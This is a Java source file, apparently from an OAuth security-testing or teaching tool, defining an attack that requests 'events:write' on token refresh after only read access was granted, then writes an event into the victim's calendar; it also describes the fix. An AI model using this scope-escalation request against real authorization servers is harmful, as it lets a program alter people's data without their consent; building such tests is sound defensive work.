package dev.gatehouse.desktop.attack;

import com.google.auto.service.AutoService;
import dev.gatehouse.desktop.exchange.Hop;
import java.util.List;

/** Asks for more on refresh than a person has agreed to. */
@AutoService(Attack.class)
public final class OauthScopeUpgrade implements Attack {
  private static final String GAIN = "The program writes into Alice's calendar.";

  @Override
  public AttackCard card() {
    return new AttackCard(
        "oauth-scope-upgrade",
        "More than was agreed to",
        AttackGroup.OAUTH,
        "The attacker’s program was allowed to read Alice’s events, and asks for writing them when it renews its token.",
        "A program that Alice lets do a little.",
        "The server gives whatever scope is asked for on refresh.",
        "scope-not-narrowed",
        List.of("RFC 6749 §6", "OWASP API5:2023"),
        "Keep with the refresh token what the person has agreed to, and give no more than that.");
  }

  @Override
  public AttackResult run(Target target) throws InterruptedException {
    AskedPerson alice = new AskedPerson(target);
    String code =
        alice.code("Alice lets a program read her events, no more.", AskedPerson.request());
    String token =
        AskedPerson.refreshToken(
            alice.tokens(
                AttackStep.ATTACKER, "The program redeems its code.", AskedPerson.redeeming(code)));
    String more =
        AskedPerson.accessToken(
            alice.tokens(
                AttackStep.ATTACKER,
                "It renews its token, and asks for more.",
                AskedPerson.refreshing(token, "scope", "events:write")));
    if (more.isEmpty()) {
      return target.end(false, GAIN);
    }
    Hop written =
        target.send(
            "It writes into Alice's calendar.",
            JwtAttack.withToken(
                target.with("POST", Events.VICTIMS, "application/json", Events.named("Not hers")),
                more));
    return target.end(written.status() == 201, GAIN);
  }
}
